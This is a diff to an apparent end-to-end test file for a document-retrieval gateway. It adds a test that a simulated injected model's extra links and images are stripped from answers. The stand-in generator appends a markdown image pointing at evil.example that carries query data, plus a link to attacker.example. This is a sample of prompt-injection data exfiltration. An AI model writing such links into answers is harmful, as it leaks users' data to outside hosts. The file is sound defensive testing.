@@ -8,7 +8,8 @@ its author included. Admins of the tenant review the quarantine; admins of anoth
 from __future__ import annotations
 
 import base64
-from collections.abc import Callable
+import dataclasses
+from collections.abc import Callable, Sequence
 from typing import Any
 
 import pytest
@@ -17,8 +18,11 @@ from litestar.testing import TestClient
 from gateway.auth.principal import Principal
 from gateway.authz.service import PolicyRule
 from gateway.deps import Services
+from gateway.generation.base import NO_CONTEXT, AskContext, Completion
+from gateway.generation.extractive import ExtractiveGenerator
 from gateway.ingest.documents import DocumentInput
 from gateway.ingest.trail import Context
+from gateway.retrieval.base import Hit
 from tests.e2e.conftest import TENANT
 
 Auth = Callable[..., dict[str, str]]
@@ -176,3 +180,34 @@ def test_a_poisoned_chunk_already_in_the_index_is_dropped_at_query_time_and_reco
     assert all(h["document_id"] != "eng/legacy" for h in hits)
     row = services.audit.search(tenant=TENANT, subject="alice", kind="search", limit=1)[0]
     assert row["guards"]["rescreen"]["dropped"][0]["document_id"] == "eng/legacy"
+
+
+class LinkWritingGenerator(ExtractiveGenerator):
+    """A model that an injection talked into writing links: one from its source, two of its own."""
+
+    def generate(self, question: str, passages: Sequence[Hit], context: AskContext = NO_CONTEXT) -> Completion:
+        answer = super().generate(question, passages, context)
+        extra = (
+            " See [the hours](https://intranet.example/hangar/hours)."
+            " ![chart](https://evil.example/c.png?d=hangar+schedule) [more](https://attacker.example/next)"
+        )
+        return dataclasses.replace(answer, text=answer.text + extra)
+
+
+def test_links_and_images_not_in_the_cited_sources_are_removed_from_the_answer(
+    client: TestClient[Any], services: Services, writer: dict[str, str], auth: Auth
+) -> None:
+    text = (
+        "Zeppelin hangar opening hours are listed at https://intranet.example/hangar/hours. The hangar opens at dawn."
+    )
+    assert _submit(client, writer, "eng/hangar-hours", {"text": text}).json()["status"] == "indexed"
+    services.pipeline.generator = LinkWritingGenerator()
+    reader = auth("alice", ["staff", "engineering"])
+    r = client.post("/v1/ask", json={"question": "When does the zeppelin hangar open?"}, headers=reader)
+    body = r.json()
+    assert r.status_code == 200 and any(c["document_id"] == "eng/hangar-hours" for c in body["citations"])
+    assert "https://intranet.example/hangar/hours" in body["answer"]
+    assert "evil.example" not in body["answer"] and "attacker.example" not in body["answer"]
+    assert "[more]" not in body["answer"] and "more" in body["answer"]  # a link keeps its text, an image goes
+    row = services.audit.search(tenant=TENANT, subject="alice", kind="ask", limit=1)[0]
+    assert row["guards"]["answer_links"] == {"removed": 2}
